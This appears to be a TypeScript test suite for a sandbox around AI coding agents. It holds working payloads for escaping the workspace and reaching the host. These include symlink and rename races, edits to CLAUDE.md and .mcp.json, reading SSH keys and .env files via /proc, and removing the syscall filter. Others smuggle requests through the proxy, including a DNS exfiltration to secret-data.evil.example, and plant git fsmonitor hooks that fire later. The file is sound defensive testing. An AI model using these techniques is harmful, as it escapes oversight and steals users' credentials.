import { type Attack, changed, escaped, heard, looted } from './attack.ts'

const planted =
  (...paths: readonly string[]): Attack['worked'] =>
  host =>
    paths.some(path => host.exists(`project/${path}`))

/** Asks the proxy that the environment names, word for word, with its credentials. */
const proxied = (request: string): string => `
import base64, urllib.parse
via = urllib.parse.urlsplit(E.get('http_proxy') or 'http://a:b@127.0.0.1:1')
auth = 'Proxy-Authorization: Basic ' + base64.b64encode(('%s:%s' % (via.username, via.password)).encode()).decode() + '\\r\\n'
s = socket.create_connection((via.hostname, via.port), 2); s.settimeout(2)
s.sendall((${request}).replace('AUTH', auth).encode('latin-1'))
time.sleep(0.3)
try: print(s.recv(4096).decode(errors='replace'))
except OSError as e: print(e)
s.sendall((ID + '\\r\\n\\r\\n').encode())
`
const viaProxy = 'without the fence there is no proxy'

export const moreAttacks: readonly Attack[] = [
  // Links and names.
  {
    name: 'swaps a link while it writes through it',
    py: `
os.mkdir('s-' + ID); end = time.time() + 1
if os.fork() == 0:
    while time.time() < end:
        for to in (OUT, '.'):
            os.symlink(to, 's-%s/n' % ID); os.rename('s-%s/n' % ID, 's-%s/l' % ID)
    os._exit(0)
while time.time() < end:
    try: open('s-%s/l/%s' % (ID, ID), 'w').close()
    except OSError: pass
os.wait()
`,
    worked: escaped,
  },
  {
    name: 'swaps a directory for a link while it writes into it',
    py: `
os.mkdir('w-' + ID); end = time.time() + 1
if os.fork() == 0:
    while time.time() < end:
        os.rename('w-' + ID, 'v-' + ID); os.symlink(OUT, 'w-' + ID); time.sleep(0); os.unlink('w-' + ID); os.rename('v-' + ID, 'w-' + ID)
    os._exit(0)
while time.time() < end:
    try: open('w-%s/%s' % (ID, ID), 'w').close()
    except OSError: pass
os.wait()
`,
    worked: escaped,
  },
  {
    name: 'makes a hard link to instructions and writes through it',
    sh: 'ln CLAUDE.md $ID; echo x >> $ID; cp -l .mcp.json m-$ID; echo x >> m-$ID',
    worked: changed('project/CLAUDE.md', 'project/.mcp.json'),
  },
  {
    name: 'exchanges a protected file with another in one step',
    py: 'open(ID, "w").write("x"); call(316, 276, -100, ID.encode(), -100, b"CLAUDE.md", 2)',
    worked: changed('project/CLAUDE.md'),
  },
  {
    name: 'links a nameless file over a protected one',
    py: 'fd = os.open(".", os.O_TMPFILE | os.O_RDWR); os.write(fd, b"x"); os.link("/proc/self/fd/%d" % fd, "n-" + ID, src_dir_fd=0, follow_symlinks=True); os.replace("n-" + ID, "CLAUDE.md")',
    worked: changed('project/CLAUDE.md'),
  },
  {
    name: 'copies bytes into a file outside inside the kernel',
    py: 'a = os.open("/etc/hostname", 0); b = os.open(OUT + "/victim", os.O_RDWR); os.sendfile(b, a, 0, 4); os.copy_file_range(a, b, 4)',
    worked: changed('outside/victim'),
  },
  {
    name: 'maps a file outside and writes to the memory',
    py: 'import mmap; f = os.open(OUT + "/victim", os.O_RDWR); mmap.mmap(f, 0)[0:2] = b"xx"',
    worked: changed('outside/victim'),
  },
  {
    name: 'truncates a file outside that it can read',
    py: 'os.truncate(OUT + "/victim", 0)',
    worked: changed('outside/victim'),
  },
  {
    name: 'opens a file outside by a path that ends with a slash and dots',
    sh: 'echo x > ./../outside/./$ID; echo x > //$OUT//$ID; cd ..; echo x > outside/$ID',
    worked: escaped,
  },
  {
    name: 'writes into the directory above the workspace',
    sh: 'mkdir ../made-$ID; touch ../$ID',
    worked: (host, id) => host.exists(`made-${id}`) || host.exists(id),
  },
  {
    name: 'plants a name in a directory whose name has line breaks',
    sh: 'd=$\'packages/a\\nb\\e[2J\'; mkdir -p "$d/.vscode"; echo x > "$d/.vscode/tasks.json"',
    worked: planted('packages/a\nb\u001b[2J/.vscode'),
  },
  {
    name: 'plants a named pipe as instructions',
    sh: 'mkfifo packages/AGENTS.md',
    worked: planted('packages/AGENTS.md'),
  },
  {
    name: 'plants a name in other letter case',
    sh: 'mkdir -p packages/web2/.VSCODE; echo x > packages/web2/.VSCODE/tasks.json; mv packages/web2/.VSCODE packages/web2/.vscode',
    worked: planted('packages/web2/.vscode'),
  },
  {
    name: 'plants a name among thousands of others',
    py: 'os.makedirs("packages/late/.vscode"); open("packages/late/.vscode/tasks.json", "w").close()\nfor n in range(5000): os.mknod("t%d" % n)',
    worked: planted('packages/late/.vscode'),
  },

  // Processes and the kernel.
  {
    name: 'looks for another root directory in /proc',
    sh: 'cat /proc/[0-9]*/root/$HOME/.ssh/id_ed25519 /proc/[0-9]*/cwd/.env /proc/[0-9]*/task/*/root/$HOME/.netrc',
    worked: looted,
  },
  {
    name: 'starts the intruder from memory',
    py: 'fd = os.memfd_create("x"); os.write(fd, open("/bin/bash", "rb").read()); os.execve(fd, ["bash", E["BASE"] + "/tools/intruder"], dict(E))',
    worked: (host, id) => escaped(host, id) || looted(host, id) || heard(host, id),
  },
  {
    name: 'loads a library from memory',
    sh: "gcc -shared -fPIC -o l-$ID.so -x c - <<< \"int f(){return 0;}\" 2>/dev/null; /usr/bin/python3 -c \"import ctypes,os; fd=os.memfd_create('x'); os.write(fd, open('/bin/true','rb').read())\"; bash $BASE/tools/intruder",
    worked: (host, id) => escaped(host, id) || looted(host, id) || heard(host, id),
  },
  {
    name: 'signals a process of the host by a descriptor',
    py: 'fd = call(434, 434, int(E["VICTIM"]), 0); got(call(424, 424, fd, 0, 0, 0) if fd >= 0 else -1)',
    worked: looted,
  },
  {
    name: 'raises its own rights',
    py: `
for how in ((47, 2, 21), (8, 0, 0), (28, 0, 0)):
    libc.prctl(*how)
caps = [l.split()[1] for l in open('/proc/self/status') if l.startswith(('CapEff', 'CapPrm', 'CapAmb'))]
print(SECRET if any(int(c, 16) for c in caps) else caps)
`,
    only: 'root',
    worked: looted,
  },
  {
    name: 'takes off the filter of system calls',
    py: 'libc.prctl(22, 0); libc.prctl(38, 0); got(call(101, 117, 0, 0, 0, 0))',
    worked: looted,
  },
  {
    name: 'changes the clock of the machine',
    py: 'got(libc.clock_settime(0, struct.pack("qq", int(time.time()), 0)))',
    only: 'root',
    worked: looted,
    notPlain: 'it would change this machine',
  },
  {
    name: 'searches a key ring',
    py: 'got(call(250, 219, 10, -3, b"user", b"x", 0)); got(call(250, 219, 0, -3, 0))',
    worked: (host, id) => looted(host, id),
    notPlain: 'a machine may have no keys',
  },
  {
    name: 'writes kernel parameters in /sys',
    sh: 'for f in /sys/kernel/uevent_helper /sys/kernel/profiling /sys/power/state /sys/module/*/parameters/*; do test -w $f && echo S3CRET-of-the-host $f; done',
    only: 'root',
    worked: looted,
    notPlain: 'it would change this machine',
  },
  {
    name: 'makes a file that cannot be deleted',
    sh: 'touch $ID; chattr +i $ID && echo S3CRET-of-the-host; chattr -i $ID',
    only: 'root',
    worked: looted,
    notPlain: 'a file system may not have this',
  },
  {
    name: 'opens a message queue of the machine',
    py: 'got(ctypes.CDLL("librt.so.1", use_errno=True).mq_open(b"/" + ID.encode(), 0o102, 0o600, None)); print(SECRET if os.path.exists("/dev/mqueue/" + ID) else "")',
    worked: (host, id) => host.plain('test', '-e', `/dev/mqueue/${id}`).code === 0,
    notPlain: 'a machine may not mount its queues',
  },
  {
    name: 'opens the terminal of its parents',
    sh: 'for t in /dev/pts/* /dev/tty /dev/console /dev/tty0 /dev/vcs; do test $t != /dev/pts/ptmx && test -c $t && exec 5<> $t && echo S3CRET-of-the-host $t; done',
    worked: looted,
    notPlain: 'a test may run without a terminal',
  },
  {
    name: 'makes a new network namespace and interface',
    sh: 'unshare -n true && echo S3CRET-of-the-host; ip link add d-$ID type dummy && echo S3CRET-of-the-host; ip addr add 169.254.169.254/32 dev lo && echo S3CRET-of-the-host',
    worked: looted,
    notPlain: 'it would change this machine',
  },
  {
    name: 'mounts a file system of its own',
    py: 'os.makedirs("m-" + ID, exist_ok=True); got(libc.mount(b"none", ("m-" + ID).encode(), b"tmpfs", 0, None)); got(call(430, 430, b"tmpfs", 0))',
    worked: looted,
    only: 'root',
    notPlain: 'it would change this machine',
  },
  {
    name: 'watches a hidden directory',
    py: 'fd = libc.inotify_init(); got(libc.inotify_add_watch(fd, (HOME + "/.ssh").encode(), 0x100))',
    worked: looted,
  },

  // The proxy.
  {
    name: 'connects through the proxy to this machine',
    py: proxied('"CONNECT 127.0.0.1:%s HTTP/1.1\\r\\nHost: x\\r\\nAUTH\\r\\n" % E["TCP"]'),
    worked: heard,
    notPlain: viaProxy,
  },
  {
    name: 'uses the oldest form of the protocol',
    py: proxied('"CONNECT 127.0.0.1:%s HTTP/1.0\\r\\nAUTH\\r\\n" % E["TCP"]'),
    worked: heard,
    notPlain: viaProxy,
  },
  {
    name: 'sends a request without a host, or with two',
    py: proxied(
      '"GET / HTTP/1.1\\r\\nHost: 127.0.0.1:%s\\r\\nAUTH\\r\\nGET http://127.0.0.1:%s/ HTTP/1.1\\r\\nHost: a\\r\\nHost: b\\r\\nAUTH\\r\\n" % (E["TCP"], E["TCP"])',
    ),
    worked: heard,
    notPlain: viaProxy,
  },
  {
    name: 'smuggles a second request in a body',
    py: proxied(
      '"POST http://127.0.0.1:%s/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\nAUTH\\r\\n0\\r\\n\\r\\nGET http://127.0.0.1:%s/" % (E["TCP"], E["TCP"]) + ID + " HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"',
    ),
    worked: heard,
    notPlain: viaProxy,
  },
  {
    name: 'asks for an upgrade of the connection',
    py: proxied(
      '"GET http://127.0.0.1:%s/ HTTP/1.1\\r\\nHost: x\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nAUTH\\r\\n" % E["TCP"]',
    ),
    worked: heard,
    notPlain: viaProxy,
  },
  {
    name: 'hides the host behind a user name or a slash',
    py: proxied(
      '"CONNECT x@127.0.0.1:%s HTTP/1.1\\r\\nAUTH\\r\\nCONNECT 127.0.0.1:%s/@x:80 HTTP/1.1\\r\\nAUTH\\r\\n" % (E["TCP"], E["TCP"])',
    ),
    worked: heard,
    notPlain: viaProxy,
  },
  {
    name: 'asks the proxy for a link-local address',
    py: proxied('"CONNECT [fe80::1%25lo]:80 HTTP/1.1\\r\\nAUTH\\r\\n"'),
    worked: (host, id) => host.loot(id).includes(' 200 '),
    notPlain: viaProxy,
  },
  {
    name: 'sends a secret in a name that is looked up',
    py: proxied('"CONNECT secret-data.evil.example:443 HTTP/1.1\\r\\nAUTH\\r\\n"'),
    worked: (host, id) => !host.loot(id).includes('not on the list of allowed hosts'),
    notPlain: viaProxy,
  },
  {
    name: 'sends trailers after a chunked body',
    py: proxied(
      '"POST http://127.0.0.1:%s/ HTTP/1.1\\r\\nHost: x\\r\\nTransfer-Encoding: chunked\\r\\nTrailer: Host\\r\\nAUTH\\r\\n0\\r\\nHost: 127.0.0.1:%s\\r\\n\\r\\n" % (E["TCP"], E["TCP"])',
    ),
    worked: heard,
    notPlain: viaProxy,
  },
  {
    name: 'guesses the credentials of another call',
    py: proxied(
      '"CONNECT 127.0.0.1:%s HTTP/1.1\\r\\nProxy-Authorization: Basic Y2FsbDow\\r\\n\\r\\nCONNECT 127.0.0.1:%s HTTP/1.1\\r\\nAUTHProxy-Authorization: Basic Og==\\r\\n\\r\\n" % (E["TCP"], E["TCP"])',
    ),
    worked: heard,
    notPlain: viaProxy,
  },
]

/** The workspace is a repository; afterwards the user works in it and in all repositories inside. */
export const moreGitAttacks: readonly Attack[] = [
  {
    name: 'makes a repository with a long configuration',
    sh: 'git init -q packages/long; (seq -f "# %g" 20000; printf "[core]\\n\\tfsmonitor = touch $OUT/$ID; false\\n") >> packages/long/.git/config',
    worked: escaped,
  },
  {
    name: 'makes a repository whose configuration is a link',
    sh: 'git init -q packages/linked; mv packages/linked/.git/config packages/linked/real; printf "[core]\\n\\tfsmonitor = touch $OUT/$ID; false\\n" >> packages/linked/real; ln -s ../real packages/linked/.git/config',
    worked: escaped,
  },
  {
    name: 'makes a worktree that shares a foreign directory',
    sh: 'mkdir -p packages/far; cp -a .git packages/far/g; printf "[core]\\n\\tfsmonitor = touch $OUT/$ID; false\\n\\tbare = false\\n" >> packages/far/g/config; mkdir packages/near; echo "gitdir: ../far/g" > packages/near/.git',
    worked: escaped,
  },
  {
    name: 'makes a submodule with hooks',
    sh: `git init -q packages/module; mkdir -p packages/module/.git/hooks; printf '#!/bin/sh\\ntouch %s/%s\\n' "$OUT" "$ID" > packages/module/.git/hooks/post-commit; chmod +x packages/module/.git/hooks/post-commit`,
    worked: escaped,
  },
  {
    name: 'includes another file in the configuration of a new repository',
    sh: 'git init -q packages/including; printf "[include]\\n\\tpath = ../more\\n" >> packages/including/.git/config; printf "[core]\\n\\tfsmonitor = touch $OUT/$ID; false\\n" > packages/including/more',
    worked: escaped,
  },
]

export const userOfMoreGit: string = `
for place in packages/long packages/linked packages/near packages/module packages/including; do (
  cd $place || exit
  git status
  echo more >> more.txt
  git add more.txt
  git commit -m more
) ; done
`
